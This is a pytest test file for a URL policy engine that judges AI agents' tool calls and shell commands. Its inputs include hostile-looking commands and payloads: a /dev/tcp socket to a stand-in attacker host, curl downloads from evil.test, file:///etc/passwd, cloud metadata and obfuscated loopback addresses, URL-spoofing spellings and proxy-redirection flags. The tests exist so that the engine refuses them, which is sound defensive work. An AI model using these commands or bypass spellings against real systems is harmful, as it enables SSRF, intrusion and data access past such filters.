"""The kind `url`."""

from ipaddress import ip_address

import pytest

from tests.kinds.deciding import Deciding
from tests.kinds.making import made
from tidegate.kinds.url import KIND
from tidegate.meaning.effects import Effect
from tidegate.meaning.urls import read_url, redirected

SITE = (
    '[[rule]]\nid = "u"\nkind = "url"\nallow = ["https://example.com", "https://*.example.com"]\notherwise = "deny"\n'
)


@pytest.fixture
def site(tmp_path):
    return Deciding(tmp_path, SITE, default="ask")


@pytest.mark.parametrize(
    "url",
    ["https://example.com", "https://example.com:443/a?b#c", "HTTPS://EXAMPLE.com./", "https://a.b.example.com/x"],
)
def test_url_inside_is_granted(site, url):
    """The host in every harmless spelling, and what is under it."""
    assert site("http_get", url=url) == "allow"


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/",
        "https://example.com.evil.test/",
        "https://evil.test/#https://example.com",
        "https://example.com:8443/",
        "https://example.com@evil.test/",
        "https://xexample.com/",
        "file:///etc/passwd",
        "https://еxample.com/",
    ],
)
def test_url_outside_is_refused(site, url):
    """Another scheme, port or host, whatever the text looks like."""
    assert site("http_get", url=url) == "deny"


@pytest.mark.parametrize("url", ["https://example.com\\.evil.test/", "https://exa\tmple.com/"])
def test_url_that_clients_read_differently_is_not_granted(site, url):
    """Where two clients could reach two hosts, a grant gives neither."""
    assert site("http_get", url=url) != "allow"


INSIDE = '[[rule]]\nid = "u"\nkind = "url"\ndeny_ranges = ["loopback", "link-local", "private", "metadata"]\n'


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "10.1.2.3",
        "169.254.169.254",
        "[fd00:ec2::254]",
        "[fe80::1%25eth0]",
        "192.168.0.1",
        "localhost",
    ],
)
def test_inside_address_is_refused_in_every_spelling(tmp_path, host):
    """Octal, hex, one number, mapped and zoned addresses are what they are, in URLs and in commands."""
    deciding = Deciding(tmp_path, INSIDE, default="allow")

    assert deciding("http_get", url=f"http://{host}/") in ("deny", "ask")
    assert deciding.bash(f"curl -s 'http://{host}/'") in ("deny", "ask")
    if host != "localhost":
        assert deciding("http_get", url=f"http://{host}/") == "deny"


def test_outside_address_passes(tmp_path):
    """A public name or address is not refused."""
    deciding = Deciding(tmp_path, INSIDE, default="allow")

    assert [deciding("http_get", url=url) for url in ("https://example.com/", "http://8.8.8.8/")] == ["allow", "allow"]


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("run_bash", {"command": "curl -o x https://evil.test/a"}),
        ("run_bash", {"command": "git clone https://evil.test/r.git"}),
        ("run_bash", {"command": "exec 3<>/dev/tcp/evil.test/80"}),
        ("unheard_of", {"where": "see https://evil.test/a for more"}),
        ("unheard_of", {"host": "evil.test"}),
        ("http_get", {"url": "https://EVIL.test./"}),
    ],
)
def test_url_deny_sees_commands_and_every_argument(tmp_path, tool, arguments):
    """Whatever connects, and whatever names the host, is refused."""
    deciding = Deciding(tmp_path, '[[rule]]\nid = "u"\nkind = "url"\ndeny = ["evil.test"]\n', default="allow")

    assert deciding(tool, **arguments) == "deny"
    assert deciding.bash("grep -r evil.test docs; echo https://evil.test") == "allow"


def test_url_confinement_takes_no_plain_text_for_a_url(tmp_path):
    """A file name with a dot is no host to a confinement."""
    deciding = Deciding(tmp_path, SITE.replace("allow =", "only ="), default="allow")

    assert deciding("unheard_of", name="a.txt") == "allow"
    assert deciding("unheard_of", name="https://evil.test/") == "deny"


@pytest.mark.parametrize("text", ["http://[::1", "http://a b/", "http://1.2.3.4.5/"])
@pytest.mark.parametrize("lists", ['deny = ["*.paste.example"]', 'deny_ranges = ["private"]'])
def test_text_without_a_role_that_is_no_readable_url_is_left_alone(tmp_path, lists, text):
    """What nobody can read asks where it is a URL, and not where it is any text."""
    deciding = Deciding(tmp_path, f'[[rule]]\nid = "u"\nkind = "url"\n{lists}\n', default="allow")

    assert (deciding("http_get", url=text), deciding("unheard_of", name=text)) == ("ask", "allow")


class Zone:
    """A resolver that knows some names, and remembers what it was asked."""

    def __init__(self, **answers):
        self.answers = {name.replace("_", "."): texts for name, texts in answers.items()}
        self.asked = []

    def __call__(self, host):
        self.asked.append(host)
        if host not in self.answers:
            raise OSError("there is no such name")
        return [ip_address(text) for text in self.answers[host]]


RESOLVED = f"{INSIDE}resolve = true\n"


@pytest.fixture
def zone():
    return Zone(out_test=["198.41.0.4"], in_test=["198.41.0.4", "10.1.2.3"], v6_test=["64:ff9b::a00:1"], odd_test=[])


@pytest.fixture
def resolved(tmp_path, zone):
    return Deciding(tmp_path, RESOLVED, default="allow", resolver=zone)


@pytest.mark.parametrize(
    ("host", "verdict"),
    [
        ("out.test", "allow"),
        ("OUT.test.", "allow"),
        ("in.test", "deny"),
        ("v6.test", "deny"),
        ("odd.test", "ask"),
        ("nobody.test", "ask"),
        ("8.8.8.8", "allow"),
        ("10.0.0.1", "deny"),
    ],
)
def test_name_is_refused_where_it_leads_into_a_range(resolved, host, verdict):
    """By a tool and by a command alike; what nobody knows is asked about."""
    url = f"http://{host}/"

    assert [resolved("http_get", url=url), resolved.bash(f"curl -s {url}")] == [verdict, verdict]
    assert resolved("unheard_of", text=f"see {url}") == {"ask": "allow"}.get(verdict, verdict)


def test_names_are_looked_up_once_for_a_call(resolved, zone):
    """However often a call names a host, there is one question."""
    verdict = resolved.bash("curl http://out.test/a; curl http://OUT.test:81/b | ssh out.test cat; nc out.test 80")

    assert (verdict, zone.asked) == ("allow", ["out.test"])


def test_only_what_needs_it_is_looked_up(tmp_path, zone):
    """No address, no name that a pattern refuses, no text without a scheme, and nothing without `resolve`."""
    Deciding(tmp_path, INSIDE, default="allow", resolver=zone)("http_get", url="http://out.test/")
    deciding = Deciding(tmp_path, f'{RESOLVED}deny = ["in.test"]\n', default="allow", resolver=zone)

    assert deciding("http_get", url="http://8.8.8.8/") == "allow"
    assert deciding("http_get", url="http://localhost/") == "deny"
    assert deciding("http_get", url="http://in.test/") == "deny"
    assert deciding("unheard_of", name="out.test", text="about in.testing and a.py") == "allow"
    assert zone.asked == []


@pytest.mark.parametrize("command", ["docker run x curl http://out.test/", "ssh out.test curl http://out.test/"])
def test_name_that_is_looked_up_elsewhere_is_unknown(resolved, command):
    """A container and another host have resolvers of their own."""
    assert resolved.bash(command) == "ask"


def test_names_are_unknown_where_the_engine_has_no_resolver(tmp_path):
    """A rule that looks names up cannot, and does not take them for harmless."""
    assert Deciding(tmp_path, RESOLVED, default="allow")("http_get", url="http://out.test/") == "ask"


def test_resolver_that_breaks_refuses(tmp_path):
    """An error that no resolver should raise is a match."""

    def broken(_):
        raise RuntimeError("no")

    assert Deciding(tmp_path, RESOLVED, default="allow", resolver=broken)("http_get", url="http://a.test/") == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "http_proxy=10.0.0.1:3128 curl http://out.test/",
        "export HTTPS_PROXY=http://10.0.0.1; curl https://out.test/",
        "env ALL_PROXY=socks5://10.0.0.1 unheard-of-program",
        "curl -x 10.0.0.1:3128 http://out.test/",
        "curl --preproxy socks4://10.0.0.1 http://out.test/",
        "curl --resolve out.test:80:8.8.8.8,10.0.0.1 http://out.test/",
        "curl --connect-to out.test:80:10.0.0.1:80 http://out.test/",
        "curl --connect-to '::[fd00::1]:80' http://out.test/",
        "curl --dns-servers 8.8.8.8,10.0.0.1 http://out.test/",
        "curl --doh-url https://10.0.0.1/q http://out.test/",
        "git -c http.proxy=10.0.0.1:3128 clone https://out.test/r",
        "git -c http.https://out.test/.proxy=http://10.0.0.1 fetch https://out.test/r",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.proxy GIT_CONFIG_VALUE_0=10.0.0.1 git fetch https://out.test/r",
        "wget -e https_proxy=10.0.0.1:80 https://out.test/",
        "wget -e 'HTTP-Proxy = http://10.0.0.1' http://out.test/",
        "http --proxy=http:http://10.0.0.1:80 out.test",
        "ssh -J out.test,u@10.0.0.1:22 out.test",
        "ssh -o ProxyJump=10.0.0.1 out.test",
        "nc -x 10.0.0.1:1080 out.test 80",
        "socat - PROXY:10.0.0.1:out.test:80",
        "npm --proxy http://10.0.0.1 install x",
        "pip install --proxy 10.0.0.1:80 x",
        "DOCKER_HOST=tcp://10.0.0.1 docker ps",
    ],
)
@pytest.mark.parametrize("rule", [INSIDE, RESOLVED], ids=["ranges", "resolve"])
def test_proxy_and_override_are_connections(tmp_path, zone, rule, command):
    """Whoever passes a request on, or is named in the place of a host, is reached."""
    assert Deciding(tmp_path, rule, default="allow", resolver=zone).bash(command) == "deny"


@pytest.mark.parametrize(
    "command", ["http_proxy= curl http://out.test/", "git -c http.proxy= ls-files", "ssh -J none out.test"]
)
def test_no_proxy_is_no_connection(resolved, command):
    """An empty name stands for nobody."""
    assert resolved.bash(command) == "allow"


FOLLOWING = [
    "curl -L https://example.com/",
    "curl -sSfL -o x https://example.com/",
    "curl --location-trusted --url https://example.com/",
    "wget https://example.com/",
    "wget -qO- https://example.com/",
    "git clone https://example.com/r",
    "git -c http.followRedirects=false -c http.followRedirects=true fetch https://example.com/r",
    "git -c http.followRedirects=false -c http.https://x.followRedirects=1 fetch https://example.com/r",
    "http --follow https://example.com",
    "python3 -c \"import requests; requests.get('https://example.com/')\"",
]
STAYING = [
    "curl https://example.com/",
    "curl -L --max-redirs 0 https://example.com/",
    "wget --max-redirect=0 https://example.com/",
    "git -c http.followRedirects=false clone https://example.com/r",
    "git clone -c http.followRedirects=false https://example.com/r",
    "http https://example.com",
]
ONLY = '[[rule]]\nid = "u"\nkind = "url"\nonly = ["https://example.com"]\n'


@pytest.mark.parametrize("command", FOLLOWING)
@pytest.mark.parametrize(
    ("rule", "verdict"),
    [
        (ONLY, "ask"),
        (f'{ONLY}unknown = "deny"\n', "deny"),
        (f'{ONLY}redirects = "ignore"\n', "allow"),
        ('[[rule]]\nid = "u"\nkind = "url"\ndeny = ["evil.test"]\n', "allow"),
        ('[[rule]]\nid = "u"\nkind = "url"\ndeny = ["evil.test"]\nredirects = "judge"\n', "ask"),
        (INSIDE, "allow"),
        (RESOLVED, "ask"),
        (f'{RESOLVED}redirects = "ignore"\n', "allow"),
        (f'{INSIDE}redirects = "judge"\n', "ask"),
    ],
    ids=[
        "only",
        "only-deny",
        "only-ignore",
        "deny",
        "deny-judge",
        "ranges",
        "resolve",
        "resolve-ignore",
        "ranges-judge",
    ],
)
def test_redirect_is_unknown_to_the_lists_that_judge_it(tmp_path, rule, verdict, command):
    """Confinements and lookups judge it, lists of denied patterns do not, unless the rule says otherwise."""
    world = Zone(example_com=["198.41.0.4"])

    assert Deciding(tmp_path, rule, default="allow", resolver=world).bash(command) == verdict


@pytest.mark.parametrize("command", STAYING)
def test_command_that_follows_no_redirect_is_judged_by_its_url(tmp_path, command):
    """Without redirects the URL is all there is."""
    assert Deciding(tmp_path, ONLY, default="allow").bash(command) == "allow"


@pytest.mark.parametrize(("redirects", "granted"), [(None, False), ("judge", False), ("ignore", True)])
def test_grant_covers_redirects_only_where_they_are_ignored(redirects, granted):
    """The URL is granted, and where it leads is not."""
    guard = made(KIND, allow=("https://example.com",), redirects=redirects)
    origin = read_url("https://example.com/")

    assert guard.grants(Effect("connect", origin), None) is True
    assert (guard.grants(Effect("connect", redirected(origin)), None) is True) == granted


def test_exception_of_one_host_holds_for_a_command_that_follows_redirects(tmp_path):
    """A pattern refuses where a command begins, and the exception is about that as well."""
    rule = '[[rule]]\nid = "u"\nkind = "url"\ndeny = ["*.example.com"]\nexcept = [{ url = "https://ok.example.com" }]\n'
    deciding = Deciding(tmp_path, rule, default="allow")

    assert deciding.bash("curl -L https://ok.example.com/") == "allow"
    assert deciding.bash("curl -L https://no.example.com/") == "deny"


def test_condition_on_urls_looks_at_where_redirects_begin(tmp_path):
    """A rule for one site is not about every command that follows redirects."""
    rule = '[[rule]]\nid = "t"\nkind = "tools"\ndeny = ["*"]\nwhen = { url = "https://evil.test" }\n'
    deciding = Deciding(tmp_path, rule, default="allow")

    assert deciding.bash("wget https://example.com/") == "allow"
    assert deciding.bash("wget https://evil.test/") == "deny"
